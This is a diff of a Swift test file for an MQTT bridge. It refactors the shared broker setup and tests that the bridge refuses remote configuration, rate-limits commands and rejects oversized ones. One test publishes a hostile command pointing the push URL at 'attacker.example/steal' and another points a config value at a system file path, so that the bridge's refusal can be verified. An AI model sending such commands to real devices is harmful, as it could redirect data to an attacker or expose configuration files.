@@ -15,7 +15,8 @@ import Testing
         return "\(key) cannot be changed from outside the bridge"
     }
 
-    @Test func aURLAPathOrASecretCannotBeConfiguredFromTheBroker() async throws {
+    /// A broker, a controller subscribed to everything, and the bridge's MQTT sink online.
+    static func started() async throws -> (MosquittoBroker, TestMQTTClient, BridgeUnderTest) {
         let broker = try MosquittoBroker()
         try await broker.start()
         let controller = try TestMQTTClient(port: broker.port, subscriptions: ["aquavate/#"])
@@ -23,6 +24,11 @@ import Testing
         let bridge = try BridgeUnderTest(port: broker.port, gate: Self.gate)
         await bridge.start()
         try await controller.waitFor(bridge.topics.availability, "online") { $0.text == "online" }
+        return (broker, controller, bridge)
+    }
+
+    @Test func aURLAPathOrASecretCannotBeConfiguredFromTheBroker() async throws {
+        let (broker, controller, bridge) = try await Self.started()
 
         try controller.publish(bridge.topics.command, "config push.url http://attacker.example/steal")
         try controller.publish(bridge.topics.command, #"{"config":{"key":"messages.pool","value":"/etc/aquavate/bridge.toml"}}"#)
@@ -46,16 +52,11 @@ import Testing
 
         await controller.stop()
         await bridge.stop()
+        withExtendedLifetime(broker) {}  // the broker runs until the end of the test
     }
 
     @Test func commandsAreRateLimitedWithABurstOfTenThenOnePerSecond() async throws {
-        let broker = try MosquittoBroker()
-        try await broker.start()
-        let controller = try TestMQTTClient(port: broker.port, subscriptions: ["aquavate/#"])
-        try await controller.start()
-        let bridge = try BridgeUnderTest(port: broker.port, gate: Self.gate)
-        await bridge.start()
-        try await controller.waitFor(bridge.topics.availability, "online") { $0.text == "online" }
+        let (broker, controller, bridge) = try await Self.started()
 
         for _ in 0..<15 { try controller.publish(bridge.topics.command, "log vitamin-d") }
         // Every refusal is counted (debug); the warning comes once for the whole flood.
@@ -76,16 +77,11 @@ import Testing
 
         await controller.stop()
         await bridge.stop()
+        withExtendedLifetime(broker) {}  // the broker runs until the end of the test
     }
 
     @Test func anOversizedCommandIsRefusedFromItsLengthAlone() async throws {
-        let broker = try MosquittoBroker()
-        try await broker.start()
-        let controller = try TestMQTTClient(port: broker.port, subscriptions: ["aquavate/#"])
-        try await controller.start()
-        let bridge = try BridgeUnderTest(port: broker.port, gate: Self.gate)
-        await bridge.start()
-        try await controller.waitFor(bridge.topics.availability, "online") { $0.text == "online" }
+        let (broker, controller, bridge) = try await Self.started()
 
         try controller.publish(bridge.topics.command, "log " + String(repeating: "x", count: 10_000))
         let answer = try await controller.waitFor(bridge.topics.commandResult, "the refusal")
@@ -96,18 +92,13 @@ import Testing
 
         await controller.stop()
         await bridge.stop()
+        withExtendedLifetime(broker) {}  // the broker runs until the end of the test
     }
 
     /// MQTT 5: the bridge tells the broker its maximum packet size when it connects, and the
     /// broker drops anything larger instead of sending it (libmosquitto would allocate it whole).
     @Test func aHugeCommandNeverReachesTheBridge() async throws {
-        let broker = try MosquittoBroker()
-        try await broker.start()
-        let controller = try TestMQTTClient(port: broker.port, subscriptions: ["aquavate/#"])
-        try await controller.start()
-        let bridge = try BridgeUnderTest(port: broker.port, gate: Self.gate)
-        await bridge.start()
-        try await controller.waitFor(bridge.topics.availability, "online") { $0.text == "online" }
+        let (broker, controller, bridge) = try await Self.started()
 
         try controller.publish(bridge.topics.command, "log " + String(repeating: "x", count: 1_000_000))
         try controller.publish(bridge.topics.command, "log vitamin-d")
@@ -137,5 +128,6 @@ import Testing
 
         await controller.stop()
         await bridge.stop()
+        withExtendedLifetime(broker) {}  // the broker runs until the end of the test
     }
 }
